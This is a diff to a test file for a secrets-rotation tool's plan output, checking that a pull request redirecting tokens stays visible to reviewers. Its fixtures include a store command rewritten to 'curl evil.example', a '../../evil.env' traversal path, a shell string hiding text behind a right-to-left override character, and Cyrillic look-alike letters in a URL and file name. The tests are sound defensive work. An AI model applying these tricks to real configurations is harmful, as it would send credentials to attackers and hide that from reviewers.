@@ -1,6 +1,6 @@
 /** A pull request that redirects secrets is seen in its plan: which file, which commands. */
 import { expect, it } from 'vitest';
-import { Stage } from '../stage.ts';
+import { STATE, Stage } from '../stage.ts';
 
 const configuration = (
   stores: string,
@@ -25,7 +25,7 @@ const STORES = `  vault:
   local: { kind: file, path: .motherduck/\`secrets.env, format: dotenv, overwrite: true }
   unused: { kind: file, path: .motherduck/unused.env, format: dotenv }`;
 
-const COMMAND = String.raw`sh -c $'cat > \'/tmp/x\'\n# \U0000202ehidden' '{account}/{token}' '${'${WHERE}'}'`;
+const COMMAND = String.raw`sh -c $'cat > \'/tmp/x\'\n# \u202ehidden' '{account}/{token}' '${'${WHERE}'}'`;
 
 it('every format says where secrets go, once', async () => {
   const stage = new Stage(configuration(STORES));
@@ -51,10 +51,118 @@ it('every format says where secrets go, once', async () => {
   }
 });
 
-it('a plan that stores nothing speaks of no files', async () => {
+it('a plan that stores nothing says where the next secrets go, and nothing of stores that no token uses', async () => {
   const stage = await Stage.applied(configuration(STORES.replace(', "${WHERE}"', '')));
-  for (const format of ['text', 'markdown', 'html', 'json'])
-    expect((await stage.run(`plan --sandbox --format ${format}`)).stdout).not.toContain('secrets.env');
+  for (const format of ['text', 'markdown']) {
+    const { stdout } = await stage.run(`plan --sandbox --format ${format}`);
+    expect(stdout).toMatch(/Later secrets go to local: .*secrets.env.* \(1 token; overwrite/);
+    expect(stdout).not.toContain('unused.env');
+  }
+});
+
+/** The formats in which a person reads a plan, each with what it says of stores. */
+async function said(stage: Stage): Promise<string[]> {
+  const formats = ['text', 'markdown', 'html'];
+  const plans = await Promise.all(formats.map((format) => stage.run(`plan --sandbox --format ${format}`)));
+  return plans.map(({ stdout }) => unescaped(stdout));
+}
+
+const TWO = `  local: { kind: file, path: .motherduck/secrets.env, format: dotenv }
+  vault: { kind: exec, command: [vault, put, "{account}/{token}"] }`;
+
+/** Changes the records of the state, as a pull request may. */
+function editRecords(stage: Stage, change: (secret: Record<string, unknown>) => unknown): void {
+  const state = JSON.parse(stage.read(STATE));
+  for (const { current } of Object.values<{ current: { secret: Record<string, unknown> } }>(state.accounts.abc.tokens))
+    current.secret = change(current.secret) as Record<string, unknown>;
+  stage.write(STATE, JSON.stringify(state, null, 2));
+}
+
+it('a plan says where the next secret of an adopted token goes, first and with its name', async () => {
+  const stage = await Stage.applied(configuration(TWO));
+  editRecords(stage, () => 'unknown');
+  stage.edit((text) => text.replace('.motherduck/secrets.env', '../../evil.env'));
+  for (const text of await said(stage)) {
+    expect(text).toMatch(/No changes/);
+    expect(text).toMatch(/Later secrets go to local: .*\.\.\/\.\.\/evil\.env.*, which is \/.*evil\.env/);
+    expect(text).toMatch(/evil.env.*new; .*unknown place: abc\/bi/);
+    expect(text).toMatch(/Later secrets go to vault: .*unknown place: abc\/app/);
+  }
+});
+
+it('a record that was edited to name a new place does not make it known', async () => {
+  const stage = await Stage.applied(configuration(TWO));
+  stage.edit((text) => text.replace('.motherduck/secrets.env', '.motherduck/other.env'));
+  editRecords(stage, ({ fingerprint: _, ...secret }) => ({
+    ...secret,
+    secret_path: String(secret.secret_path).replace('secrets.env', 'other.env'),
+  }));
+  for (const text of await said(stage)) expect(text).toMatch(/other\.env.*unknown place: abc\/bi/);
+});
+
+it('a command that no record has is not known, which every plan says until the next rotation', async () => {
+  const stage = await Stage.applied(configuration(TWO));
+  stage.edit((text) => text.replace('[vault, put,', '[curl, evil.example,'));
+  editRecords(stage, ({ command: _, ...secret }) => secret);
+  for (const text of await said(stage)) {
+    expect(text).toMatch(/it is not known which command of the secret store vault stored a secret/);
+    expect(text).toMatch(/Later secrets go to vault: .*curl evil.example/);
+  }
+  const cases = [{ store: 'vault', tokens: ['abc/app'] }];
+  expect((await stage.json('plan --sandbox')).document).toMatchObject({
+    warnings: [{ kind: 'command_unknown', cases }],
+    stores: [{ store: 'vault', tokens: 1, elsewhere: ['abc/app'] }, { store: 'local' }],
+  });
+  expect((await stage.run('rotate abc/app --sandbox --yes --no-smoke')).code).toBe(0);
+  const { document } = await stage.json('plan --sandbox');
+  expect(document).not.toMatchObject({ warnings: expect.arrayContaining([{ kind: 'command_unknown' }]) });
+  expect(document).toMatchObject({ stores: [{ store: 'local' }, { store: 'vault', tokens: 1 }] });
+});
+
+it('a command is not cut by other stores, and where not all fit, the first lines say so', async () => {
+  const stage = await Stage.applied(configuration(TWO));
+  const pad = (count: number, length: number) => {
+    const names = Array.from({ length: count }, (_, n) => `pad${n}`);
+    const command = (name: string) => `[${name}, "{account}/{token}", ${'x'.repeat(length)}]`;
+    const stores = names.map((name) => `  ${name}: { kind: exec, command: ${command(name)} }`).join('\n');
+    const accounts = names.map(
+      (name) => `  ${name}: { tokens: { a: { policy: p, secret_store: ${name} } }, smoke: false }`,
+    );
+    return { stores, accounts: accounts.join('\n') };
+  };
+  const before = stage.read();
+  const add = ({ stores, accounts }: ReturnType<typeof pad>) =>
+    before
+      .replace(TWO, `${stores}\n${TWO.replace('vault, put', 'curl, "https://evil.example"')}`)
+      .replace('guardrails:', `${accounts}\nguardrails:`);
+  stage.edit(() => add(pad(30, 1000)));
+  const { stdout } = await stage.run('plan --sandbox --format markdown');
+  expect(stdout.split('\n').find((line) => line.startsWith('🔑'))).toMatch(/vault: .*evil\.example/);
+  expect(stdout.match(/x{1000}`/g)).toHaveLength(30);
+  expect(stdout).not.toContain('not shown as a whole');
+  stage.edit(() => add(pad(190, 450)));
+  const many = (await stage.run('plan --sandbox --format markdown')).stdout;
+  expect(many.length).toBeLessThanOrEqual(65_000);
+  expect(many).toContain('evil.example');
+  expect(many.split('\n').slice(0, 7).join('\n')).toMatch(
+    /\*\*1\d\d new or changed destinations of secrets, not shown as a whole here/,
+  );
+});
+
+it('a letter that only looks like a Latin one is seen in a command, a path and a name', async () => {
+  const stage = new Stage(
+    configuration(
+      TWO.replace('[vault,', '[vault, "https://v\u0430ult.acme.example",').replace('secrets.env', 's\u0435crets.env'),
+      'abc: { tokens: { app: { policy: p, name: "\u0430pp" }, bi: { policy: f, name: "日本 Zürich" } }, smoke: false }',
+    ),
+  );
+  for (const text of await said(stage)) {
+    expect(text).not.toMatch(/[\u0400-\u04ff]/);
+    expect(text).toContain('https://v\\u0430ult.acme.example');
+    expect(text).toContain('s\\u0435crets.env');
+    expect(text).toContain('\\u{430}pp');
+    expect(text).toContain('日本 Zürich');
+  }
 });
 
 it('every plan says which commands a later apply runs without being asked again', async () => {
@@ -68,7 +176,13 @@ it('every plan says which commands a later apply runs without being asked again'
     expect(stdout).toMatch(/Later, secrets are removed from vault with: .*vault delete/);
   }
   const { document } = await stage.json('plan --sandbox');
-  expect(document).toMatchObject({ actions: [], stores: [{ store: 'vault', writes: false, removes: false }] });
+  expect(document).toMatchObject({
+    actions: [],
+    stores: [
+      { store: 'vault', writes: false, removes: false },
+      { store: 'local', writes: false },
+    ],
+  });
 });
 
 it('it says what removes the secrets of a token that goes', async () => {
